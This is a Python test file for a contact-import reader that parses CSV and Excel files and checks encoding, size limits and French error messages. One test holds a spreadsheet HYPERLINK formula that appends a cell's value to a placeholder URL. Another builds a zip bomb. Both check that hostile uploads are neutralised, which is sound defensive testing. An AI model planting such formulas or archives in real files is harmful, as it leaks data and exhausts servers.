import tracemalloc
import zipfile

import openpyxl
import pytest

from services.audience import readers
from services.audience.errors import ImportFileError
from services.audience.readers import Limits, open_table
from services.audience.sniffing import CsvLayout


def read_all(path, **options):
    table = open_table(path, **options)
    return table.columns, list(table.rows)


def make_xlsx(tmp_path, rows, name="contacts.xlsx"):
    workbook = openpyxl.Workbook()
    for row in rows:
        workbook.active.append(row)
    path = tmp_path / name
    workbook.save(path)
    return path


def test_csv_rows_come_numbered_as_in_a_spreadsheet(make_file):
    path = make_file("Nom;Prénom;Tel\nMüller;Hélène;0612345678\n\nNgo;Aïcha\n", encoding="cp1252")

    columns, rows = read_all(path)

    assert columns == ["Nom", "Prénom", "Tel"]
    assert rows == [(2, ["Müller", "Hélène", "0612345678"]), (4, ["Ngo", "Aïcha"])]


def test_quoted_cells_keep_separators_and_line_breaks(make_file):
    path = make_file('nom,adresse,tel\n"Dupont, Jean","1 rue A\nBP 12",671234567\n')

    _, rows = read_all(path)

    assert rows == [(2, ["Dupont, Jean", "1 rue A\nBP 12", "671234567"])]


def test_file_without_header_gets_numbered_column_names(make_file):
    path = make_file("Dupont;671234567\nNgo;699887766\n")

    columns, rows = read_all(path)

    assert columns == ["Colonne 1", "Colonne 2"]
    assert [number for number, _ in rows] == [1, 2]


@pytest.mark.parametrize("content", [b"", b"  \n\n  \n"])
def test_empty_file_is_refused(make_file, content):
    with pytest.raises(ImportFileError, match="vide"):
        read_all(make_file(content))


def test_header_only_yields_nothing_then_says_why(make_file):
    table = open_table(make_file("nom;prenom;telephone\n"))
    received = []

    with pytest.raises(ImportFileError, match="que la ligne d'en-tête"):
        for row in table.rows:
            received.append(row)

    assert received == []


def test_binary_garbage_is_refused(make_file):
    with pytest.raises(ImportFileError, match="pas un fichier texte"):
        read_all(make_file(bytes(range(256)) * 100))


def test_wrong_delimiter_names_the_one_that_works(make_file):
    path = make_file("nom;prenom;tel\nDupont;Jean;0612345678\n")

    with pytest.raises(ImportFileError, match="point-virgule"):
        read_all(path, layout=CsvLayout("utf-8", ",", True))


def test_bad_bytes_after_the_sample_stop_the_read_with_the_line(make_file):
    good_lines = "".join(f"Hélène {i};0612345678\n" for i in range(5000))  # > 64 KB sample
    path = make_file("nom;tel\n".encode() + good_lines.encode() + "François;0698765432\n".encode("cp1252"))
    received = []

    with pytest.raises(ImportFileError, match="mélange plusieurs encodages"):
        for row in open_table(path).rows:
            received.append(row)

    assert all(cells[0].startswith("Hélène") for _, cells in received)


def test_cell_over_ten_thousand_characters_is_refused(make_file):
    path = make_file("nom;note\nDupont;" + "x" * 10_001 + "\n")

    with pytest.raises(ImportFileError, match="dépasse 10000 caractères"):
        read_all(path)


def test_huge_quoted_cell_over_many_lines_is_refused(make_file):
    path = make_file('nom;note\nDupont;"' + "ligne\n" * 30_000 + '"\n')

    with pytest.raises(ImportFileError, match="dépasse 10000 caractères"):
        read_all(path)


def test_fifty_megabyte_line_fails_without_being_read_whole(make_file):
    path = make_file(b"nom;tel\n" + b"x" * 50_000_000)
    tracemalloc.start()
    try:
        with pytest.raises(ImportFileError, match="sans retour à la ligne"):
            read_all(path, layout=CsvLayout("utf-8", ";", True))
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert peak < 5_000_000


def test_too_many_columns_is_refused(make_file):
    path = make_file(";".join(f"c{i}" for i in range(20)) + "\n" + ";".join("v" * 20) + "\n")

    with pytest.raises(ImportFileError, match="20 colonnes"):
        read_all(path, limits=Limits(max_columns=10))


def test_xlsx_rows_are_read_as_text(tmp_path):
    path = make_xlsx(tmp_path, [["Nom", "Téléphone", "Inscrit"], ["Müller", 671234567, 3.5], ["Ngo", 699887766.0, None]])

    columns, rows = read_all(path)

    assert columns == ["Nom", "Téléphone", "Inscrit"]
    assert rows == [(2, ["Müller", "671234567", "3.5"]), (3, ["Ngo", "699887766", ""])]


def test_xlsx_formulas_stay_plain_text(tmp_path):
    formula = '=HYPERLINK("http://exemple.invalid/?x="&A2,"Cliquez")'
    path = make_xlsx(tmp_path, [["Nom", "Email"], [formula, "a@exemple.cm"]])

    _, rows = read_all(path)

    assert rows == [(2, [formula, "a@exemple.cm"])]


def test_xlsx_header_only_is_refused(tmp_path):
    path = make_xlsx(tmp_path, [["Nom", "Telephone"]])

    with pytest.raises(ImportFileError, match="que la ligne d'en-tête"):
        read_all(path)


def test_zip_bomb_is_refused_before_openpyxl_opens_it(tmp_path, monkeypatch):
    path = tmp_path / "bombe.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"\0" * 5_000_000)
    monkeypatch.setattr(readers.openpyxl, "load_workbook", lambda *a, **k: pytest.fail("opened"))

    with pytest.raises(ImportFileError, match="archive piégée"):
        read_all(path)


def test_xlsx_over_the_uncompressed_size_limit_is_refused(tmp_path):
    path = make_xlsx(tmp_path, [["Nom"], ["Dupont"]])

    with pytest.raises(ImportFileError, match="archive piégée"):
        read_all(path, limits=Limits(max_xlsx_uncompressed_bytes=1_000))


def test_zip_that_is_not_a_workbook_is_refused(tmp_path):
    path = tmp_path / "photos.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("photo.txt", "rien")

    with pytest.raises(ImportFileError, match="pas un classeur Excel"):
        read_all(path)


def test_damaged_xlsx_is_refused(make_file):
    with pytest.raises(ImportFileError, match="illisible"):
        read_all(make_file(b"PK\x03\x04" + b"garbage" * 100, name="abime.xlsx"))


def test_old_xls_format_is_refused_with_advice(make_file):
    with pytest.raises(ImportFileError, match=r"\.xlsx ou en CSV"):
        read_all(make_file(b"\xd0\xcf\x11\xe0" + b"\0" * 600, name="vieux.xls"))
